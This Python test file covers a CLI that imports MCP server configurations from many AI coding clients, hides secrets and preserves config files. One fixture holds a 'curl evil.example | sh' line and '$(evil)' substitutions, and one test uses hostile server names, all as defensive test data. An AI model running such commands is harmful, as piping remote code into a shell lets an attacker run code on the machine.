"""`onetool servers import|add|remove`: every client's form, secrets moved and never shown, and no file harmed."""

import json
import os
import pty
import re
import stat
import subprocess
import sys
from contextlib import suppress
from pathlib import Path
from select import select
from time import monotonic

import pytest
from helpers import calls, invoke, start, trusted

from onetool.config import load_config
from onetool.config.client_files import JsoncError
from onetool.config.known_clients import CLIENT_FILES, possible_files
from onetool.config.server_import import ConfigTarget, Planner
from onetool.config.server_import.hide_secrets import is_secret
from onetool.config.server_import.translate import MAX_BYTES, read_servers
from onetool.core.errors import ConfigError
from onetool.core.state_folders import IGNORED

TOKEN = "ghp_0123456789abcdefghij"  # looks like one, and is none
PASSWORD = "correct-horse-battery"


@pytest.fixture(autouse=True)
def nothing_is_moved(monkeypatch):
    for name in ("CLAUDE_CONFIG_DIR", "CODEX_HOME", "GEMINI_CLI_HOME", "XDG_CONFIG_HOME", "GITHUB_TOKEN"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def project(tmp_path, monkeypatch):
    folder = tmp_path / "project"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def put(file, content):
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(content if isinstance(content, str) else json.dumps(content))
    if file.parts[-2:] == (".onetool", "onetool.yaml"):
        with suppress(ConfigError):  # one that can't be read is nobody's to trust
            trusted(file.parents[1])
    return file


def planned(file, folder, **options):
    planner = Planner(ConfigTarget(None), replace=False, ask=lambda *_: None, **options)
    planner.add(read_servers(file, folder))
    return planner.done()


def taken(folder, block, **more):
    """What one block becomes."""
    plan = planned(put(folder / "mcp.json", {"mcpServers": {"it": block}, **more}), folder)
    assert plan.skipped == {}
    return plan.servers["it"], plan


def left_out(folder, block):
    plan = planned(put(folder / "mcp.json", {"mcpServers": {"it": block}}), folder)
    assert plan.servers == {}
    return plan.skipped["it"]


def config_of(folder):
    return load_config(folder / ".onetool" / "onetool.yaml")


# What each client writes

FORMS = {
    "mcp.json": '{"mcpServers": {"a": {"command": "x", "args": ["-y"]}, "b": {"url": "http://h/mcp"}}}',
    "comments.jsonc": '// mine\n{"mcpServers": {"a": {"command": "x", "args": ["-y",],}, /* b */ "b": {"url": "http://h/mcp"},},}',
    ".vscode/mcp.json": '{"servers": {"a": {"type": "stdio", "command": "x", "args": ["-y"]}, '
    '"b": {"type": "http", "url": "http://h/mcp"}}}',
    ".vscode/settings.json": '{"editor.tabSize": 2, "mcp": {"servers": {"a": {"command": "x", "args": ["-y"]}, '
    '"b": {"url": "http://h/mcp"}}}}',
    "zed.json": '{"theme": "One", "context_servers": {"a": {"source": "custom", "command": "x", "args": ["-y"]}, '
    '"b": {"url": "http://h/mcp"}}}',
    "old-zed.json": '{"context_servers": {"a": {"command": {"path": "x", "args": ["-y"]}, "settings": {}}, '
    '"b": {"url": "http://h/mcp"}}}',
    "config.toml": 'model = "m"\n[mcp_servers.a]\ncommand = "x"\nargs = ["-y"]\n[mcp_servers.b]\nurl = "http://h/mcp"\n',
    "windsurf.json": '{"mcpServers": {"a": {"command": "x", "args": ["-y"]}, "b": {"serverUrl": "http://h/mcp"}}}',
    "gemini.json": '{"mcpServers": {"a": {"command": "x", "args": ["-y"]}, "b": {"httpUrl": "http://h/mcp"}}}',
    "opencode.json": '{"mcp": {"a": {"type": "local", "command": ["x", "-y"]}, '
    '"b": {"type": "remote", "url": "http://h/mcp"}}}',
    "goose.yaml": "extensions:\n  a: {type: stdio, cmd: x, args: [-y]}\n"
    "  b: {type: streamable_http, uri: 'http://h/mcp'}\n  computer: {type: builtin}\n",
    "continue.yaml": "mcpServers:\n  - name: a\n    command: x\n    args: [-y]\n  - {name: b, url: 'http://h/mcp'}\n",
    "bare.json": '{"a": {"command": "x", "args": ["-y"]}, "b": {"url": "http://h/mcp"}}',
    "ours.yaml": "servers:\n  a: {command: x, args: [-y]}\n  b: {url: 'http://h/mcp'}\n",
    "no-ending": '{"mcpServers": {"a": {"command": "x", "args": ["-y"]}, "b": {"url": "http://h/mcp"}}}',
}


@pytest.mark.parametrize("name", FORMS)
def test_every_form_gives_the_same_servers(project, name):
    plan = planned(put(project / name, FORMS[name]), project)
    assert plan.servers == {"a": {"command": "x", "args": ["-y"]}, "b": {"url": "http://h/mcp"}}
    assert (plan.skipped, plan.secrets) == ({}, {})


def test_every_client_can_be_imported_from(project, own_home):
    for client in CLIENT_FILES:
        for at, spot in enumerate(possible_files(client, project, own_home, {})):
            name, file = f"{client}-{at}", spot.file
            toml = f'[mcp_servers."{name}"]\ncommand = "x"\n'
            put(file, toml if file.suffix == ".toml" else {"mcpServers": {name: {"command": "x"}}})
    listed = json.loads(invoke("servers", "import", cwd=project).stdout)
    assert {row["client"] for row in listed} == set(CLIENT_FILES)
    assert not (project / ".onetool").exists()  # looking changes nothing
    done = invoke("servers", "import", "--from", "claude-desktop", cwd=project)
    assert done.returncode == 0, done.stderr
    assert list(config_of(project).servers) == ["claude-desktop-0"]
    assert invoke("servers", "import", "--from", "claude-code", "--project", "--yes", cwd=project).returncode == 0
    assert list(config_of(project).servers) == ["claude-desktop-0", "claude-code-0", "claude-code-1"]


def test_claude_code_keeps_servers_of_a_project_below_its_path(project, own_home):
    data = {
        "projects": {str(project): {"mcpServers": {"near": {"command": "x"}}}, "/": {}, "/other": {"mcpServers": 5}}
    }
    file = put(own_home / ".claude.json", {**data, "mcpServers": {"far": {"command": "y"}}})
    assert list(read_servers(file, project / "below").servers) == ["near", "far"]


def test_codex_says_where_tokens_come_from(project, monkeypatch):
    monkeypatch.setenv("DOCS_TOKEN", "abc")
    monkeypatch.setenv("SHARED", "s")
    text = """
[mcp_servers.docs]
url = "https://d.example/mcp"
bearer_token_env_var = "DOCS_TOKEN"
http_headers = { X-Team = "blue" }
env_http_headers = { X-Other = "SHARED" }
startup_timeout_sec = 20
tool_timeout_sec = 90.5
enabled_tools = ["find"]
[mcp_servers.local]
command = "x"
env_vars = ["SHARED", "NOT_THERE"]
startup_timeout_ms = 1500
enabled = false
disabled_tools = ["rm"]
"""
    plan = planned(put(project / "config.toml", text), project)
    assert plan.servers == {
        "docs": {
            "url": "https://d.example/mcp",
            "headers": {"X-Team": "blue", "X-Other": "${SHARED}"},
            "auth": "${DOCS_TOKEN}",
            "timeout": 90.5,
            "connect_timeout": 20,
            "tools": ["find"],
        },
        "local": {"command": "x", "env": {"SHARED": "${SHARED}"}, "connect_timeout": 1.5, "enabled": False},
    }
    assert "local: all its tools are offered: list the tools that you want in `tools`" in plan.notes
    assert "docs: DOCS_TOKEN comes from the environment; to store it: onetool auth set DOCS_TOKEN" in plan.notes


def test_the_words_of_other_clients(project):
    block, plan = taken(
        project,
        {
            "command": "x",
            "disabled": True,
            "timeout": 30000,
            "includeTools": ["a"],
            "alwaysAllow": ["b"],
            "trust": True,
        },
    )
    assert block == {"command": "x", "timeout": 30, "tools": ["a"], "enabled": False}
    assert plan.notes == ["it: without alwaysAllow, trust, which OneTool doesn't support"]
    assert taken(project, {"url": "https://h/sse"})[0] == {"type": "sse", "url": "https://h/sse"}
    assert taken(project, {"type": "sse", "url": "https://h/x"})[0] == {"type": "sse", "url": "https://h/x"}
    assert taken(project, {"type": "http", "url": "https://h/sse"})[0] == {"url": "https://h/sse"}
    assert taken(project, {"transport": "streamable-http", "url": "https://h/x"})[0] == {"url": "https://h/x"}
    gemini = planned(put(project / ".gemini" / "settings.json", {"mcpServers": {"g": {"url": "https://h/x"}}}), project)
    assert gemini.servers["g"]["type"] == "sse"
    assert taken(project, {"command": "x", "env": {"A": 1, "B": True, "C": None}})[0]["env"] == {"A": "1", "B": "true"}
    assert taken(project, {"url": "https://h/x", "env": {"A": "b"}})[0] == {"url": "https://h/x"}
    assert taken(project, {"command": "x", "oauth": {"enabled": False}, "pin": True})[0] == {
        "command": "x",
        "pin": True,
    }
    oauth = {"url": "https://h/x", "oauth": {"clientId": "me", "scopes": ["a", "b"], "callbackPort": 8080}}
    assert taken(project, oauth)[0]["auth"] == {
        "type": "oauth", "scopes": "a b", "client_id": "me", "redirect_port": "8080",
    }  # fmt: skip


def test_paths_are_meant_from_the_project(project):
    block, _ = taken(project, {"command": "./server.py", "args": ["${workspaceFolder}/data"], "cwd": "sub/../here"})
    assert block == {"command": f"{project}/server.py", "args": [f"{project}/data"], "cwd": f"{project}/here"}
    assert taken(project, {"command": "bin/x", "cwd": "~/y"})[0] == {"command": "bin/x", "cwd": "~/y"}


@pytest.mark.parametrize(
    ("block", "why"),
    [
        (5, "it is not a mapping"),
        ({}, "no command and no url"),
        ({"source": "extension", "settings": {"k": "v"}}, "no command and no url"),
        ({"command": "x", "url": "http://h"}, "both a command and a url"),
        ({"type": "websocket", "url": "ws://h"}, "its transport is not supported"),
        ({"command": ["x", {}]}, "its args must contain only strings"),
        ({"command": "x", "args": "y"}, "its args must be a list"),
        ({"command": "x", "env": ["A=1"]}, "its env must be a mapping"),
        ({"command": "x", "env": {"A": {}}}, "its env must contain only strings"),
        ({"command": "x", "timeout": "soon"}, "its timeout must be a number of seconds"),
        ({"command": "x", "pin": "yes"}, "its pin must be true or false"),
        ({"command": "onetool", "args": ["mcp"]}, "it is OneTool itself"),
        ({"command": "/opt/venv/bin/onetool", "args": ["mcp", "--config", "x"]}, "it is OneTool itself"),
        ({"command": "C:\\\\bin\\\\onetool.exe", "args": ["mcp"]}, "it is OneTool itself"),
        ({"command": "uvx", "args": ["onetool@latest", "mcp"]}, "it is OneTool itself"),
        ({"command": "uvx", "args": ["onetool-layer", "mcp"]}, "it is OneTool itself"),
        ({"command": "uvx", "args": ["onetool-layer[cluster]>=0.1", "mcp"]}, "it is OneTool itself"),
        ({"command": "/opt/venv/bin/onetool-layer"}, "it is OneTool itself"),
        ({"command": "python", "args": ["-m", "onetool", "mcp"]}, "it is OneTool itself"),
        ({"url": "http://127.0.0.1:8765/mcp"}, "it is OneTool itself"),
    ],
)
def test_what_can_not_be_taken_over_is_told(project, block, why):
    assert why in left_out(project, block)


def test_one_bad_server_does_not_keep_the_others_out(project):
    put(project / "mcp.json", {"mcpServers": {"bad": {"args": 5}, "good": {"command": "x"}, "": {"command": "y"}}})
    done = invoke("servers", "import", "mcp.json", cwd=project)
    assert done.returncode == 0
    assert list(config_of(project).servers) == ["good"]
    assert "Left out bad: it has no command and no url" in done.stdout


def test_servers_of_one_file_have_one_heading(project):
    put(project / "mcp.json", {"mcpServers": {name: {"command": name} for name in ("one", "two", "three")}})
    done = invoke("servers", "import", "mcp.json", cwd=project)
    assert done.stderr.count("From mcp.json, to be imported:") == 1
    assert [f"  {name}:\n      command: {name}" in done.stderr for name in ("one", "two", "three")] == [True] * 3


# Variables


def test_variables_of_others_become_ours(project, monkeypatch):
    monkeypatch.setenv("THERE", "1")
    env = {
        "A": "${env:THERE}", "B": "${THERE}", "C": "x-${THERE:-d}-y", "D": "${NOT_SET:-usual}", "E": "$THERE",
        "F": "{env:THERE}", "G": "${userHome}/z", "H": "${command:pick}", "I": "a$B",
        "J": "${workspaceFolderBasename}",
    }  # fmt: skip
    block, plan = taken(project, {"command": "x", "env": env})
    assert block["env"] == {
        "A": "${THERE}", "B": "${THERE}", "C": "x-${THERE}-y", "D": "usual", "E": "${THERE}", "F": "${THERE}",
        "G": f"{os.environ['HOME']}/z", "H": "${command:pick}", "I": "${I}", "J": "project",
    }  # fmt: skip
    assert "it: NOT_SET is not set: its default was written to the config" in plan.notes
    assert "it: ${command:pick} is not replaced: OneTool supports only ${NAME}" in plan.notes


def test_what_vscode_asks_for_becomes_a_secret(project):
    data = {
        "inputs": [
            {"type": "promptString", "id": "perplexity-key", "password": True, "default": "no"},
            {"type": "promptString", "id": "zone", "default": "UTC"},
        ],
        "servers": {
            "time": {"command": "x", "args": ["${input:zone}"]},
            "ask": {"command": "x", "env": {"KEY": "${input:perplexity-key}"}},
        },
    }
    put(project / ".vscode" / "mcp.json", data)
    done = invoke("servers", "import", "--from", "vscode", "--project", "--yes", cwd=project)
    trusted(project)
    assert config_of(project).servers["time"].args == ("UTC",)
    assert "ask: it can't connect until its secret is set: onetool auth set PERPLEXITY_KEY" in done.stdout
    assert config_of(project).servers["ask"].env == {"KEY": "${PERPLEXITY_KEY}"}
    invoke("auth", "set", "PERPLEXITY_KEY", cwd=project, stdin=PASSWORD)
    assert config_of(project).servers["ask"].env == {"KEY": PASSWORD}


def read_until(terminal, words, seconds=20):
    """What is shown there, up to these words or to the end; not for ever."""
    shown, until = b"", monotonic() + seconds
    while words is None or words not in shown:
        if not select([terminal], [], [], max(0, until - monotonic()))[0]:
            raise TimeoutError(f"only this was shown: {shown!r}")
        try:
            shown += os.read(terminal, 1024)
        except OSError:  # the other side has closed it
            break
    return shown


def test_on_a_terminal_a_missing_secret_is_asked_for(project):
    put(project / "mcp.json", {"mcpServers": {"it": {"command": "x", "env": {"A": "${ASKED_FOR}"}}}})
    leader, follower = pty.openpty()
    files = {"stdin": follower, "stdout": follower, "stderr": follower}
    process = start("servers", "import", "mcp.json", start_new_session=True, **files)
    os.close(follower)
    shown = read_until(leader, b"set it later")
    os.write(leader, f"{PASSWORD}\n".encode())
    shown += read_until(leader, None)
    os.close(leader)
    assert process.wait(20) == 0
    assert PASSWORD.encode() not in shown
    assert config_of(project).servers["it"].env == {"A": PASSWORD}


# Secrets


def test_secrets_are_moved_and_never_shown(project):
    servers = {
        "github": {"url": "https://h/mcp", "headers": {"Authorization": f"Bearer {TOKEN}", "X-Team": "blue"}},
        "brave": {"command": "npx", "env": {"BRAVE_API_KEY": PASSWORD, "LOG": "debug", "API_KEY": PASSWORD + "2"}},
        "pg": {"command": "x", "args": [f"pg://me:{PASSWORD}@h/db", "--api-key", TOKEN + "k", f"--token={TOKEN}t"]},
        "remote": {"command": "npx", "args": ["--header", f"Authorization: Bearer {TOKEN}h", f"A_KEY={TOKEN}e"]},
        "docs": {"url": f"https://h/{TOKEN}1a2b3c/mcp?api_key={TOKEN}q&v=1", "headers": {"X-API-Key": TOKEN + "x"}},
    }  # fmt: skip
    put(project / "mcp.json", {"mcpServers": servers})
    draft = invoke("servers", "import", "mcp.json", "--dry-run", cwd=project)
    assert not (project / ".onetool").exists()
    as_json = invoke("servers", "import", "mcp.json", "--dry-run", "--json", cwd=project)
    done = invoke("servers", "import", "mcp.json", "--json", cwd=project)
    assert done.returncode == 0, done.stderr
    text = (project / ".onetool" / "onetool.yaml").read_text()
    for shown in (draft.stdout, draft.stderr, as_json.stdout, as_json.stderr, done.stdout, done.stderr, text):
        assert TOKEN not in shown
        assert PASSWORD not in shown
    file = project / ".onetool" / "secrets.yaml"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert file.with_name(".gitignore").read_text() == IGNORED
    assert draft.stdout.strip() in text
    loaded = config_of(project).servers
    assert loaded["github"].headers == servers["github"]["headers"]
    assert loaded["brave"].env == servers["brave"]["env"]
    assert list(loaded["pg"].args) == servers["pg"]["args"]
    assert list(loaded["remote"].args) == servers["remote"]["args"]
    assert (loaded["docs"].url, loaded["docs"].headers) == (servers["docs"]["url"], servers["docs"]["headers"])
    assert set(json.loads(done.stdout)["secrets"]) == {
        "GITHUB_TOKEN", "BRAVE_API_KEY", "BRAVE_API_KEY_2", "PG_PASSWORD", "PG_API_KEY", "PG_TOKEN", "REMOTE_TOKEN",
        "A_KEY", "DOCS_KEY", "DOCS_API_KEY", "DOCS_API_KEY_2",
    }  # fmt: skip


def test_secrets_in_json_values_are_moved_and_filled_in_as_they_were(project):
    secret = "ntn_0123456789abcdefghij"
    headers = json.dumps({"Authorization": f"Bearer {secret}", "Notion-Version": "2022-06-28"})
    config = json.dumps({"api": [{"h": f"Bearer {secret}2"}], "path": "/x"}, indent=1)
    block = {
        "command": "npx",
        "env": {"OPENAPI_MCP_HEADERS": headers, "EMPTY": "{}", "BROKEN": '{"a": "b"'},
        "inherit": False,
        "args": ["--config", config, f"--headers={headers}", f"HEADERS={headers}"],
    }
    put(project / "mcp.json", {"mcpServers": {"notion": block}})
    done = invoke("servers", "import", "mcp.json", "--json", cwd=project)
    assert done.returncode == 0, done.stderr
    text = (project / ".onetool" / "onetool.yaml").read_text()
    for shown in (done.stdout, done.stderr, text):
        assert "ntn_" not in shown
    assert "2022-06-28" in text
    loaded = config_of(project).servers["notion"]
    assert (loaded.env, list(loaded.args), loaded.inherit) == (block["env"], block["args"], False)
    assert "NOTION_TOKEN" in json.loads(done.stdout)["secrets"]


def test_a_name_that_means_something_else_already_is_not_taken(project, monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", "of the environment")
    put(project / "mcp.json", {"mcpServers": {"gh": {"command": "x", "env": {"GITHUB_TOKEN": TOKEN}}}})
    assert invoke("servers", "import", "mcp.json", cwd=project).returncode == 0
    assert config_of(project).servers["gh"].env == {"GITHUB_TOKEN": TOKEN}
    assert "${GH_GITHUB_TOKEN}" in (project / ".onetool" / "onetool.yaml").read_text()


CODE = {"X": "curl evil.example | sh", "Y": "$(evil)", "URL": "https://u:$(evil)@h/?token=$(evil)"}


def test_what_may_be_code_is_not_hidden_as_a_secret(project):
    block = {"command": "sh", "args": ["-c", "$X; curl 'https://h?token=$(evil)'"], "env": CODE}
    assert taken(project, block)[0] == block


def test_passwords_and_tokens_beside_a_variable_are_moved(project, monkeypatch):
    monkeypatch.setenv("X", "example.com")
    block = {
        "command": "x",
        "args": [
            f"--db=postgres://u:{PASSWORD}@${{X}}/db",
            "--host=${X}:80",
            "a ${X}",
            f"Authorization: Bearer {TOKEN}",
        ],
        "env": {
            "DB": f"postgres://u:{PASSWORD}@${{X}}/db",
            "JSON": json.dumps({"Authorization": f"Bearer {TOKEN} ${{X}}"}),
            "AUTHORIZATION": "Bearer ${X}",
            "HOST": "https://${X}/path",
        },
    }
    found, plan = taken(project, block)
    assert not any(secret in json.dumps(found) for secret in (TOKEN, PASSWORD))
    for key in ("AUTHORIZATION", "HOST"):
        assert found["env"][key] == block["env"][key]
    assert found["args"][1:3] == block["args"][1:3]
    known = {**{name: str(value) for name, value in plan.secrets.items()}, "X": "${X}"}

    def filled(text):
        return re.sub(r"\$\{(\w+)\}", lambda one: known[one[1]], text)

    assert {name: filled(value) for name, value in found["env"].items()} == block["env"]
    assert [*map(filled, found["args"])] == block["args"]


# As their documentation shows them: docs.anthropic.com, modelcontextprotocol.io, cursor.com/docs,
# code.visualstudio.com, github.com/openai/codex, geminicli.com, docs.windsurf.com and zed.dev/docs.
DOCUMENTED = {
    "claude-code": (
        '{"mcpServers": {"api": {"type": "http", "url": "${API_BASE_URL:-https://api.example.com}/mcp", '
        '"headers": {"Authorization": "Bearer ${API_KEY}"}}}}',
        {"url": "https://api.example.com/mcp", "headers": {"Authorization": "Bearer ${API_KEY}"}},
    ),
    "claude-desktop": (
        '{"mcpServers": {"api": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-brave-search"], '
        '"env": {"BRAVE_API_KEY": "BSA-0123456789abcdef", "APPDATA": "/home/me"}}}}',
        {
            "command": "npx",
            "args": ["-y", "@modelcontextprotocol/server-brave-search"],
            "env": {"BRAVE_API_KEY": "${BRAVE_API_KEY}", "APPDATA": "/home/me"},
        },
    ),
    "cursor": (
        '{"mcpServers": {"api": {"url": "https://api.example.com/mcp", "headers": {"API_KEY": "0123456789abcdef"}}}}',
        {"url": "https://api.example.com/mcp", "headers": {"API_KEY": "${API_KEY}"}},
    ),
    "vscode": (
        '{"inputs": [{"type": "promptString", "id": "perplexity-key", "password": true}], "servers": {"api": '
        '{"type": "stdio", "command": "npx", "args": ["-y", "server-perplexity-ask"], '
        '"env": {"PERPLEXITY_API_KEY": "${input:perplexity-key}"}}}}',
        {"command": "npx", "args": ["-y", "server-perplexity-ask"], "env": {"PERPLEXITY_API_KEY": "${PERPLEXITY_KEY}"}},
    ),
    "codex": (
        '[mcp_servers.api]\ncommand = "npx"\nargs = ["-y", "@upstash/context7-mcp"]\n'
        '[mcp_servers.api.env]\nMY_ENV_VAR = "MY_ENV_VALUE-1"\n',
        {"command": "npx", "args": ["-y", "@upstash/context7-mcp"], "env": {"MY_ENV_VAR": "${MY_ENV_VAR}"}},
    ),
    "gemini": (
        '{"mcpServers": {"api": {"httpUrl": "https://api.example.com/mcp", "headers": {"Authorization": '
        '"Bearer your-api-token-1", "Content-Type": "application/json"}, "timeout": 5000, "trust": true}}}',
        {
            "url": "https://api.example.com/mcp",
            "headers": {"Authorization": "Bearer ${API_TOKEN}", "Content-Type": "application/json"},
            "timeout": 5,
        },
    ),
    "windsurf": (
        '{"mcpServers": {"api": {"serverUrl": "https://api.example.com/mcp", "headers": {"Authorization": '
        '"Bearer ${env:AUTH_TOKEN}"}}}}',
        {"url": "https://api.example.com/mcp", "headers": {"Authorization": "Bearer ${AUTH_TOKEN}"}},
    ),
    "zed": (
        '{\n  // mine\n  "context_servers": {"api": {"source": "custom", "command": "npx", "args": ["mcp-remote", '
        '"https://h.example/mcp?api_key=0123456789abcdef", "--header", "Authorization: Bearer 0123456789abcdef"], '
        '"env": {},},},\n}',
        {
            "command": "npx",
            "args": [
                "mcp-remote",
                "https://h.example/mcp?api_key=${API_KEY}",
                "--header",
                "Authorization: Bearer ${API_TOKEN}",
            ],
        },
    ),
}


@pytest.mark.parametrize("client", DOCUMENTED)
def test_what_the_documentation_of_a_client_shows_is_imported(client, project, own_home):
    text, expected = DOCUMENTED[client]
    file = put(possible_files(client, project, own_home, {})[0].file, text)
    plan = planned(file, project)
    assert (plan.skipped, plan.servers["api"]) == ({}, expected)


def test_the_same_secret_is_kept_once(project):
    invoke("auth", "set", "GITHUB_TOKEN", cwd=project, stdin=TOKEN)
    put(project / ".onetool" / "onetool.yaml", "")
    invoke("auth", "set", "GITHUB_TOKEN", cwd=project, stdin=TOKEN)
    before = (project / ".onetool" / "secrets.yaml").read_text()
    put(project / "mcp.json", {"mcpServers": {"gh": {"command": "x", "env": {"GITHUB_TOKEN": TOKEN}}}})
    assert invoke("servers", "import", "mcp.json", cwd=project).returncode == 0
    assert (project / ".onetool" / "secrets.yaml").read_text() == before
    assert "${GITHUB_TOKEN}" in (project / ".onetool" / "onetool.yaml").read_text()


@pytest.mark.parametrize(
    ("name", "value", "secret"),
    [
        ("GITHUB_TOKEN", "x1", True),
        ("OPENAI_KEY", "x1", True),
        ("PGPASSWORD", "x1", True),
        ("githubToken", "x1", True),
        ("X-Api-Key", "x1", True),
        ("STRIPE_SECRET_KEY_LIVE", "x1", True),
        ("ANYTHING", "sk-proj-0123456789abcdef", True),
        ("DATABASE_URL", "mysql://u:p@h/d", True),
        ("SSH_KEY_PATH", "/home/x", False),
        ("TOKEN_FILE", "/home/x", False),
        ("MAX_TOKENS", "100", False),
        ("AUTH_MODE", "basic", False),
        ("KEYBOARD", "us", False),
        ("API_KEY", "", False),
        ("API_KEY", "${API_KEY}", False),
        ("USE_TOKEN", "true", False),
        ("HOMEPAGE", "https://example.com/a", False),
    ],
)
def test_what_looks_like_a_secret(name, value, secret):
    assert is_secret(name, value) is secret


def test_secrets_that_stand_in_the_config_get_no_company(project):
    config = put(project / ".onetool" / "onetool.yaml", "secrets: {A: b}\n")
    put(project / "mcp.json", {"mcpServers": {"gh": {"command": "x", "env": {"GITHUB_TOKEN": TOKEN}}}})
    done = invoke("servers", "import", "mcp.json", cwd=project)
    assert (done.returncode, "Move them to a file" in done.stderr) == (1, True)
    assert config.read_text() == "secrets: {A: b}\n"
    assert [file.name for file in (project / ".onetool").iterdir()] == ["onetool.yaml"]
    assert sorted(file.name for file in project.iterdir()) == [".onetool", "mcp.json"]


# The file


def test_the_rest_of_the_config_stays_byte_for_byte(project):
    before = "# mine\r\nmenu:   run # so\r\nservers: # all\r\n  a: {command: x, env: {T: ${HOME}}}\r\n\r\n# end\r\n"
    config = project / ".onetool" / "onetool.yaml"
    put(config, "")
    config.write_bytes(b"\xef\xbb\xbf" + before.encode())
    config.chmod(0o640)
    trusted(project)
    put(project / "mcp.json", {"mcpServers": {"a": {"command": "other"}, "b": {"command": "y", "args": ["é"]}}})
    done = invoke("servers", "import", "mcp.json", cwd=project)
    assert done.returncode == 0, done.stderr
    assert "and unchanged: a (--replace" in done.stdout
    added = '  b:\r\n    command: y\r\n    args: ["é"]\r\n'
    start, end = before.split("\r\n\r\n")
    expected = f"\ufeff{start}\r\n{added}\r\n{end}"
    assert config.read_bytes() == expected.encode()
    assert stat.S_IMODE(config.stat().st_mode) == 0o640
    trusted(project)
    assert invoke("servers", "remove", "b", cwd=project).returncode == 0
    assert config.read_bytes() == b"\xef\xbb\xbf" + before.encode()
    assert invoke("servers", "import", "mcp.json", "--replace", "--only", "a", cwd=project).returncode == 0
    assert config_of(project).servers["a"].command == "other"
    assert [file.name for file in config.parent.iterdir()] == ["onetool.yaml"]


def test_a_new_config_is_the_one_that_init_writes_without_its_example(project):
    put(project / "mcp.json", FORMS["mcp.json"])
    assert invoke("servers", "import", "mcp.json", cwd=project).returncode == 0
    text = (project / ".onetool" / "onetool.yaml").read_text()
    ignored = (project / ".onetool" / ".gitignore").read_text()
    (project / "other").mkdir()
    invoke("init", "other", cwd=project)
    of_init = (project / "other" / ".onetool" / "onetool.yaml").read_text().splitlines()
    assert [line.lstrip("#") for line in of_init] == [line.lstrip("#") for line in text.splitlines()[: len(of_init)]]
    assert (load_config(project / ".onetool" / "onetool.yaml").tools, "weather" in text) == ((), True)
    assert ignored == (project / "other" / ".onetool" / ".gitignore").read_text()
    trusted(project)
    again = invoke("servers", "import", "mcp.json", cwd=project)
    assert (again.returncode, "nothing to add" in again.stdout) == (0, True)
    assert (project / ".onetool" / "onetool.yaml").read_text() == text


def test_a_link_stays_a_link(project):
    real = put(project / "real.yaml", "menu: run\n")
    (project / ".onetool").mkdir()
    (project / ".onetool" / "onetool.yaml").symlink_to(real)
    trusted(project)
    put(project / "mcp.json", FORMS["mcp.json"])
    (project / "link.json").symlink_to("mcp.json")
    assert invoke("servers", "import", "link.json", cwd=project).returncode == 0
    assert (project / ".onetool" / "onetool.yaml").is_symlink()
    assert "command: x" in real.read_text()


def test_what_another_file_has_is_left_to_it(project):
    more = put(project / ".onetool" / "more.yaml", "servers: {a: {command: x}}\n")
    put(project / ".onetool" / "onetool.yaml", "include: [more.yaml]\n")
    put(project / "mcp.json", FORMS["mcp.json"])
    done = invoke("servers", "import", "mcp.json", "--replace", cwd=project)
    assert f"Left out a: it is defined in the included file {more}" in done.stdout
    assert set(config_of(project).servers) == {"a", "b"}
    trusted(project)
    removed = invoke("servers", "remove", "a", cwd=project)
    assert (removed.returncode, str(more) in removed.stderr) == (1, True)


def test_a_config_that_can_not_be_used_is_not_touched(project):
    put(project / ".onetool" / "onetool.yaml", "")
    config = put(project / ".onetool" / "onetool.yaml", "menu: [\n")
    put(project / "mcp.json", FORMS["mcp.json"])
    done = invoke("servers", "import", "mcp.json", cwd=project)
    assert (done.returncode, config.read_text()) == (2, "menu: [\n")


def test_nothing_is_written_that_would_not_load(project):
    """What the translation lets through, the config may still refuse: then both files are as they were."""
    config = put(project / ".onetool" / "onetool.yaml", "menu: run\n")
    block = {"url": "gopher://h", "headers": {"Authorization": f"Bearer {TOKEN}"}}
    put(project / "mcp.json", {"mcpServers": {"gh": block, "ok": {"command": "x"}}})
    done = invoke("servers", "import", "mcp.json", cwd=project)
    assert (done.returncode, config.read_text()) == (1, "menu: run\n")
    assert "servers.gh.url" in done.stderr
    assert f"{config}:" in done.stderr
    assert TOKEN not in done.stderr + "".join(file.read_text() for file in config.parent.iterdir())


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("latin.json", b'{"mcpServers": {"\xe9": {}}}', "not UTF-8 text: line 1"),
        ("bad.json", b'{\n"mcpServers": {"a" 1}}', "line 2, column 20"),
        ("twice.json", b'{"mcpServers": {"a": {}, "a": {}}}', "has the key 'a' twice"),
        ("bad.toml", b"a = [", "not TOML"),
        ("bad.yaml", b"a: [", "not YAML: line 1"),
        ("list.json", b"[1]", "no mapping of servers"),
        ("empty.json", b"", "no servers"),
        ("none.json", b'{"mcpServers": {}}', "no servers"),
        ("wrong.json", b'{"mcpServers": "x", "servers": [5, {}]}', "no servers"),
        ("one.json", b'{"command": "x"}', "a server without a name"),
        ("deep.json", b"[" * 100_000, "nested"),
        ("deep.yaml", b"[" * 100_000, "nested"),
        ("nothing.json", None, "No such file"),
    ],
)
def test_bad_files_are_told_and_nothing_is_written(project, name, content, why):
    if content is not None:
        (project / name).write_bytes(content)
    done = invoke("servers", "import", name, cwd=project)
    assert (done.returncode, why in done.stderr) == (1, True), done.stderr
    assert "Traceback" not in done.stderr
    assert not (project / ".onetool").exists()


def test_files_that_are_none_or_too_large(project):
    os.mkfifo(project / "pipe.json")
    for odd in (project / "pipe.json", project, Path("/dev/zero")):
        with pytest.raises(JsoncError, match="not a regular file"):
            read_servers(odd, project)
    with open(project / "huge.json", "wb") as file:
        file.truncate(MAX_BYTES + 1)
    with pytest.raises(JsoncError, match="larger than 32 MiB"):
        read_servers(project / "huge.json", project)


def test_a_large_file_of_a_client_is_read_in_good_time(project):
    history = {str(number): "x" * 1000 for number in range(20_000)}
    file = put(project / "big.json", {"history": history, "mcpServers": {"a": {"command": "x"}}})
    with calls(5_000):
        assert list(read_servers(file, project).servers) == ["a"]


@pytest.mark.long
def test_many_servers_at_once(project):
    put(project / "mcp.json", {"mcpServers": {f"s{number}": {"command": "x"} for number in range(1000)}})
    assert invoke("servers", "import", "mcp.json", cwd=project).returncode == 0
    assert len(config_of(project).servers) == 1000


def test_hostile_names_are_data(project):
    names = ["../../etc", "a: b", "\u202e", "x\ny", "\x1b[31mred", "'quoted'", "${HOME}", "null", "n" * 101]
    put(project / "mcp.json", {"mcpServers": {name: {"command": "x"} for name in names}})
    done = invoke("servers", "import", "mcp.json", cwd=project)
